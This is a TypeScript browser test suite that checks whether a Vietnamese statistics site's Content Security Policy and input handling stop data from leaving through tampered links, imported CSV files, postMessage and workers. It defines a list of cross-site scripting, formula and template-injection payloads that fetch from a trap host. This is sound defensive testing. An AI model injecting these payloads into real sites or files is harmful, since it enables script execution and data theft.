import { deflateSync, strToU8 } from 'fflate';
import type { Page, Worker } from 'playwright-core';
import { expect, test } from 'vitest';
import { openAddress, openPage } from './site';
import { fromPage, fromWorker, setTrap } from './trap';

/** What a browser says when its policy holds. */
const refused = [
	/Content Security Policy|violat|blocked|Refused/i,
	/request to another host/,
	/nothing/
];

/** A page, or a worker. */
interface Place {
	evaluate: (expression: string) => Promise<unknown>;
}

/** Tries each way out, one after the other; a refusal may come as an error. */
async function attempt(place: Place, ways: Record<string, string>, to: string) {
	for (const [name, body] of Object.entries(ways)) {
		const address = JSON.stringify(`${to}/${encodeURIComponent(name)}`);
		await place
			.evaluate(`(async (to) => { ${body} })(${address}).then(() => 0)`)
			.catch(() => undefined);
	}
}

async function settled(page: Page, caught: string[]): Promise<string[]> {
	await page.waitForTimeout(500);
	return caught;
}

test('the trap catches every way out of a page without a policy', async () => {
	const { origin, caught } = await setTrap();
	const page = await openAddress(`${origin}/open`, { expected: [/./] });
	const { origin: elsewhere, caught: there } = await setTrap();
	await attempt(page, fromPage, elsewhere);
	await settled(page, there);
	const missed = Object.keys(fromPage).filter(
		(name) => !there.some((line) => decodeURIComponent(line).includes(`/${name}`))
	);
	expect(missed).toEqual([]);
	expect(caught).not.toEqual([]);
});

test('a page lets nothing out, whatever script would run in it', async () => {
	const { origin, caught } = await setTrap();
	const page = await openPage('', { engine: true, expected: refused });
	await attempt(page, fromPage, origin);
	expect(await settled(page, caught)).toEqual([]);
});

/** No script can take this away from a worker. */
const byPolicyAlone = 'import()';

async function engineOf(page: Page): Promise<Worker> {
	await page.waitForSelector('html[data-engine="ready"]', { state: 'attached' });
	const worker = page.workers().find((one) => one.url().includes('/boot.'));
	if (!worker) throw new Error('no engine');
	return worker;
}

test.each([
	['under the policy that the service worker gives it', 'allow'],
	['by its own means where there is no service worker', 'block']
] as const)('the engine lets nothing out, %s', async (_, serviceWorkers) => {
	const { origin, caught } = await setTrap();
	const page = await openPage('', { engine: true, expected: refused, serviceWorkers });
	const engine = await engineOf(page);
	const ways = Object.entries(fromWorker).filter(
		([name]) => serviceWorkers === 'allow' || name !== byPolicyAlone
	);
	await attempt(engine, Object.fromEntries(ways), origin);
	expect(await settled(page, caught)).toEqual([]);
});

/** Texts that become markup, script, style or an address wherever one of them is not taken as plain text. */
const hostile = (to: string) => [
	`<img src="${to}/img" onerror="fetch('${to}/handler')">`,
	`<script>fetch('${to}/script')</script>`,
	`"><svg onload="fetch('${to}/svg')"><style>@import '${to}/css'</style>`,
	`javascript:fetch('${to}/url')`,
	`=WEBSERVICE("${to}/formula")`,
	`url(${to}/url)`,
	`{{constructor.constructor('fetch("${to}/template")')()}}`
];

const tampered = [
	'',
	'targets/',
	'places/ha-noi/',
	'indicators/grdp-growth/',
	'compare/',
	'data/import/',
	'embed/indicators/grdp-growth/line/'
];

test.each(tampered)('a link that was tampered with does nothing on /%s', async (path) => {
	const { origin, caught } = await setTrap();
	const named = 'year place places theme q view chart from to measure indicator scale layer';
	const names = named.split(' ');
	const values = hostile(origin);
	const query = new URLSearchParams(names.map((name, at) => [name, values[at % 7] ?? '']));
	const page = await openPage(`${path}?${query}#${encodeURIComponent(values.join(' '))}`);
	const foreign = 'main script:not([src$="/embed.js"]), main img[src^="http"], main iframe';
	await expect.poll(() => page.locator(foreign).count()).toBe(0);
	expect(caught).toEqual([]);
});

test('figures that come in a link are read as text, whatever they are', async () => {
	const { origin, caught } = await setTrap();
	const [markup = '', script = '', breakout = ''] = hostile(origin);
	const csv = `indicator,region,period,value\n"${markup.replaceAll('"', '""')}",ha-noi,2024,1\n`;
	const figures = { name: markup, csv, definitions: [{ id: script, name_vi: breakout }] };
	const packed = deflateSync(strToU8(JSON.stringify(figures)));
	const fragment = Buffer.from(packed).toString('base64url');
	const page = await openPage(`data/import/#figures=${fragment}`);
	await expect.poll(() => page.locator('main script, main img, main iframe').count()).toBe(0);
	expect(await settled(page, caught)).toEqual([]);
});

test('a chart in a frame of another site does nothing that its address or that site asks for', async () => {
	const { origin, caught } = await setTrap();
	const page = await openPage('embed/indicators/grdp-growth/line/', { expected: refused });
	await page.evaluate((values) => {
		for (const value of values)
			window.postMessage({ chartHeight: value, html: value, eval: value }, '*');
	}, hostile(origin));
	await attempt(page, fromPage, origin);
	expect(await settled(page, caught)).toEqual([]);
});

test('cells of an opened file that look like script stay text', async () => {
	const { origin, caught } = await setTrap();
	const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
	const rows = hostile(origin).map((text) => [cell(text), cell(text), '1,5'].join(','));
	const page = await openPage('data/import/');
	await page.locator('input[type=file][data-import]').setInputFiles({
		name: `${hostile(origin)[0]}.csv`.replaceAll('/', '_'),
		mimeType: 'text/csv',
		buffer: Buffer.from(['Địa phương,Chỉ tiêu,2024', ...rows].join('\n'))
	});
	await page.locator('[data-import-step]').first().waitFor();
	await expect.poll(() => page.locator('main').innerText()).toContain('onerror=');
	await expect.poll(() => page.locator('main script, main img, main iframe').count()).toBe(0);
	expect(await settled(page, caught)).toEqual([]);
});
